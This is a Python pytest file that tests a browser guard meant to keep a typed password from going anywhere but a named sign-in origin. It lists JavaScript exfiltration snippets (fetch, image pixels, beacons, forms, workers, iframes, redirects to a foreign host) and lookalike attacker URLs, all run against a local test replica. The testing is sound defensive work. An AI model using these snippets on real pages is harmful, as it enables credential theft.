"""10.15 and 11.3: a typed secret goes to a sign-in origin or nowhere, whatever sends it and however."""

from __future__ import annotations

from contextlib import suppress
from typing import Final

import pytest
from playwright.sync_api import Browser as DrivenBrowser
from playwright.sync_api import Error as BrowserError
from pydantic import SecretStr

from checker.browser.launch import Launch
from checker.console import Guard, Phase, Policy
from checker.errors import Stop
from checker.flow import SiteToml
from checker.model import Outcome
from fixtures.common import Replica
from tests.guard.attempts import TOML
from tests.guard.visiting import PASSWORD, visiting

WAYS_OUT: Final = {
    "a query of the console's own": "s => fetch('/api/look?q=' + s)",
    "a path of the console's own": "s => fetch('/api/' + s)",
    "a query of the sign-in itself": "s => fetch('/signin?password=' + encodeURIComponent(s))",
    "a post with it in the address": "s => fetch('/signin?p=' + s, {method: 'POST', body: 'x'})",
    "base 64 in a query": "s => fetch('/api/look?q=' + encodeURIComponent(btoa('u:' + s)))",
    "a picture": "s => { new Image().src = '/pixel.gif?' + s; }",
    "a navigation": "s => { location.href = '/next?' + s; }",
    "a form that gets": """s => {
        document.body.innerHTML = '<form action=/signin><input name=password></form>';
        document.forms[0].password.value = s; document.forms[0].submit(); }""",
    "another host": "s => fetch(FOREIGN + '/x', {...POST, body: s})",
    "another host, in JSON": "s => fetch(FOREIGN + '/x', {...POST, body: JSON.stringify({s})})",
    "another host, in base 64": "s => fetch(FOREIGN + '/x', {...POST, body: btoa(s)})",
    "another host, in a beacon": "s => navigator.sendBeacon(FOREIGN + '/x', s)",
    "another host, in parts": """s => { const form = new FormData(); form.append('a', s);
        fetch(FOREIGN + '/x', {method: 'POST', mode: 'no-cors', body: form}); }""",
    "another host, in a query": "s => { new Image().src = FOREIGN + '/x?' + s; }",
    "a hop to another host": "s => fetch('/hop/307/elsewhere/x', {method: 'POST', mode: 'no-cors', body: s})",
    "a worker": """s => { new Worker(URL.createObjectURL(new Blob(
        [`fetch('${location.origin}/api/look?q=${s}')`]))); }""",
    "a frame": "s => document.body.append(Object.assign(document.createElement('iframe'), {src: '/f?' + s}))",
}


def _script(way: str, foreign: str) -> str:
    text = WAYS_OUT[way].replace("FOREIGN", repr(foreign))
    return text.replace("...POST", "method: 'POST', mode: 'no-cors'")


@pytest.mark.parametrize("way", WAYS_OUT)
def test_10_15_a_secret_that_goes_astray_is_turned_away_and_ends_the_visit(
    browser: DrivenBrowser, launch: Launch, hostile: Replica, way: str
) -> None:
    """GET or POST, script or form, worker or frame: no server hears it, and the visit is a safety stop."""
    hostile.use("quiet")
    foreign = hostile.url.replace("127.0.0.1", "localhost")
    with visiting(browser, launch, Phase.SIGN_IN) as console:
        console.raw.goto(hostile.url)
        console.guard.watch_secret(SecretStr(PASSWORD))
        hostile.log.clear()
        with pytest.raises(Stop) as stopped:  # noqa: PT012 - it is raised by whichever look comes first
            with suppress(BrowserError):
                console.raw.evaluate(_script(way, foreign), PASSWORD)
            while True:
                console.wait(0.05)  # a test that hangs fails
        turned_away = [one for one in (*console.guard.blocked, *console.guard.noise) if "secret" in one.why]

    heard = [record for record in hostile.log if PASSWORD in f"{record.path}?{record.query}"]
    assert heard == []
    assert [record.path for record in hostile.log if record.host.startswith("localhost")] == []
    assert stopped.value.outcome is Outcome.UNSAFE_PAGE
    assert PASSWORD not in stopped.value.detail
    assert turned_away
    assert PASSWORD not in repr(turned_away)


@pytest.mark.parametrize("path", ["/signin", "/signin/", "/api/v4/account/login_by_password", "/x/4711"])
def test_10_15_a_script_may_send_it_to_a_sign_in_origin(
    browser: DrivenBrowser, launch: Launch, hostile: Replica, path: str
) -> None:
    """Without a form, a method attribute or a listed path: what counts is where it goes."""
    hostile.use("quiet")
    with visiting(browser, launch, Phase.SIGN_IN) as console:
        console.raw.goto(hostile.url)
        console.guard.watch_secret(SecretStr(PASSWORD))
        hostile.log.clear()
        sent = "async ([path, s]) => (await fetch(path, {method: 'POST', body: JSON.stringify({s})})).status"
        console.raw.evaluate(sent, [path, PASSWORD])
        console.wait(0.05)

    assert [(record.method, record.path) for record in hostile.log][:1] == [("POST", path)]


def _toml(**signin: object) -> SiteToml:
    data = TOML.model_dump(mode="python", by_alias=True)
    data["signin"] |= signin
    data["hosts"] = {"start": "console.example", "also": ["cdn.example"]}
    return SiteToml.model_validate(data)


@pytest.mark.parametrize(
    ("is_one", "url"),
    [
        (True, "https://accounts.example/"),
        (True, "https://accounts.example:443/any/path"),
        (False, "https://console.example/signin"),
        (False, "https://cdn.example/signin"),
        (False, "http://accounts.example/"),
        (False, "https://accounts.example:8443/"),
        (False, "https://accounts.example@evil.example/"),
        (False, "https://user@accounts.example/"),
        (False, "https://accounts.example.evil.example/"),
    ],
)
def test_11_3_a_secret_goes_to_the_origins_named_alone(url: str, *, is_one: bool) -> None:
    """Not to the console's other hosts, and never to one that only holds content."""
    policy = Policy(_toml(origins=["https://accounts.example"]))

    assert policy.is_sign_in_origin(url) is is_one
    assert policy.may_post_secret(url) is is_one
    assert policy.examine(Phase.SIGN_IN, "POST", url, "x=1", headers={}).verdict == (
        "allow" if is_one else "block"
    )


def test_11_3_without_origins_it_is_the_start_host() -> None:
    """And not a content network that the console also uses."""
    policy = Policy(_toml())

    assert policy.is_sign_in_origin("https://console.example/x")
    assert not policy.is_sign_in_origin("https://cdn.example/x")


@pytest.mark.parametrize(
    ("is_one", "origin"),
    [(True, "http://127.0.0.1:9"), (True, "https://stand.in"), (False, "http://stand.in")],
)
def test_11_3_a_stand_in_is_the_sign_in_origin(origin: str, *, is_one: bool) -> None:
    """The account's own origin takes the place of all; without HTTPS it must be this machine."""
    policy = Policy(_toml(origins=["https://accounts.example"]), origin)

    assert policy.is_sign_in_origin(f"{origin}/signin") is is_one
    assert not policy.is_sign_in_origin("https://accounts.example/")


@pytest.mark.parametrize(
    "origin", ["http://accounts.example", "https://accounts.example/path", "accounts.example"]
)
def test_11_3_an_origin_is_https_and_a_host(origin: str) -> None:
    """Anything else in site.toml is refused, and told."""
    with pytest.raises(ValueError, match="origins"):
        _toml(origins=[origin])


def test_10_4_what_was_turned_away_says_which_answer_it_concerns(
    browser: DrivenBrowser, launch: Launch, hostile: Replica
) -> None:
    """Path, type and reason of each, by pattern; beacons are apart, values of queries nowhere."""
    hostile.use("quiet")
    with visiting(browser, launch, Phase.READ) as console:
        console.raw.goto(hostile.url)
        console.raw.evaluate(
            """async () => {
                await fetch('/api/summary?shop=4711', {method: 'POST', body: '{}'}).catch(() => 0);
                await fetch('/api/rum/collect', {method: 'POST', body: '{}'}).catch(() => 0);
                navigator.sendBeacon('/api/seen', 'x');
            }"""
        )
        while len(console.guard.noise) < 2:
            console.wait(0.05)  # a test that hangs fails
        (summary,) = console.guard.blocked_for("(?:/[a-z]+)*/summary")
        told = tuple(console.blocked)
        noise = {one.path for one in console.guard.noise}
        total = console.guard.total

    assert (summary.method, summary.path, summary.resource_type) == ("POST", "/api/summary", "XHR")
    assert summary.url_without_query_values == f"{hostile.url}/api/summary?shop"
    assert '[[reads]] path = "/api/summary"' in summary.why
    assert told == ("POST 127.0.0.1/api/summary",)
    assert noise == {"/api/rum/collect", "/api/seen"}
    assert total == len(told) + len(noise)


def test_10_15_a_body_that_is_not_shown_goes_nowhere_but_to_a_sign_in_origin() -> None:
    """While a secret is on its way, what the browser does not show is not let out to another origin."""
    toml = _toml(origins=["https://accounts.example"])
    guard = Guard(Policy(toml))
    hidden = {"method": "POST", "headers": {"Content-Type": "text/plain"}, "hasPostData": True}
    session = _Session()
    for host in ("console.example/read/listed", "accounts.example/login"):
        event = {"requestId": host, "resourceType": "XHR", "request": {**hidden, "url": f"https://{host}"}}
        guard.judge(session, event)  # type: ignore[arg-type]  # as much of a session as a judge needs
    guard.watch_secret(SecretStr(PASSWORD))
    for host in ("console.example/read/listed", "accounts.example/login"):
        event = {"requestId": host, "resourceType": "XHR", "request": {**hidden, "url": f"https://{host}"}}
        guard.judge(session, event)  # type: ignore[arg-type]

    assert session.sent == ["continueRequest", "continueRequest", "failRequest", "continueRequest"]


class _Session:
    """Writes down what a guard does with each request."""

    def __init__(self) -> None:
        self.sent: list[str] = []

    def send(self, method: str, _params: object) -> None:
        self.sent.append(method.removeprefix("Fetch."))
